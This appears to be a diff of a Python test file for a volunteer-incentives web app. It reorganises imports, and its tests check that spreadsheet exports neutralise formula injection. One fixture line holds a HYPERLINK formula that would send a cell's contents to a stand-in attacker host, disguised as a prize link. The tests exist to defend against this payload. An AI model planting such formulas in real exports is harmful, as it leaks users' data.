@@ -8,7 +8,13 @@ from zoneinfo import ZoneInfo
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from app.services import bulletins, incentives, ledger, spreadsheets
+from app.services import ledger, spreadsheets
+from app.services.bulletins.quarters import save_quarter_comment
+from app.services.bulletins.snapshots import list_bulletins
+from app.services.incentives.counter import redeem
+from app.services.incentives.coupons import claim_coupon
+from app.services.incentives.merchants import create_merchant, create_merchant_account
+from app.services.incentives.offers import OfferInput, create_offer
 from tests import factories as f
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
@@ -47,16 +53,16 @@ def test_values_a_spreadsheet_would_run_are_prefixed(value):
 
 def test_redemption_exports_of_merchant_and_admin_are_neutralised(client, db):
     admin = f.platform_admin("boss")
-    merchant = incentives.create_merchant(name="-城东便利店", address="人民路1号", by=admin, approved=True)
-    shop = incentives.create_merchant_account(merchant, username="shopkeeper", password=f.PASSWORD,
+    merchant = create_merchant(name="-城东便利店", address="人民路1号", by=admin, approved=True)
+    shop = create_merchant_account(merchant, username="shopkeeper", password=f.PASSWORD,
                                               name="店长", by=admin)
-    offer = incentives.create_offer(merchant, incentives.OfferInput(title=EVIL, min_star=1), by=admin)
+    offer = create_offer(merchant, OfferInput(title=EVIL, min_star=1), by=admin)
     db.session.commit()
     volunteer = f.volunteer()
     f.give_hours(volunteer, 100)
-    coupon = incentives.claim_coupon(volunteer, offer)
+    coupon = claim_coupon(volunteer, offer)
     db.session.commit()
-    incentives.redeem(coupon.id, merchant, by=shop)
+    redeem(coupon.id, merchant, by=shop)
     db.session.commit()
 
     f.login(client, shop)
@@ -78,7 +84,7 @@ def test_bulletin_xlsx_is_neutralised(app, client, db):
     ledger.create_record(volunteer, started_at=start, ended_at=start + timedelta(hours=4), by=None)
     db.session.commit()
     assert app.test_cli_runner().invoke(args=["bulletins", "generate", "--month", "2026-10"]).exit_code == 0
-    bulletin = bulletins.list_bulletins(unit.id)[0]
+    bulletin = list_bulletins(unit.id)[0]
     f.login(client, f.platform_admin("boss"))
     response = client.get(f"/bulletins/{bulletin.id}.xlsx")
     assert response.status_code == 200
@@ -94,7 +100,7 @@ def test_records_template_cells_are_text(client, db):
 def test_quarterly_review_xlsx_is_neutralised(client, db):
     boss = f.platform_admin("boss")
     unit = f.unit(admin=boss)
-    bulletins.save_quarter_comment(unit.id, 2026, 3, EVIL, by=boss)
+    save_quarter_comment(unit.id, 2026, 3, EVIL, by=boss)
     db.session.commit()
     f.login(client, boss)
     response = client.get(f"/bulletins/quarter.xlsx?year=2026&q=3&unit_id={unit.id}")
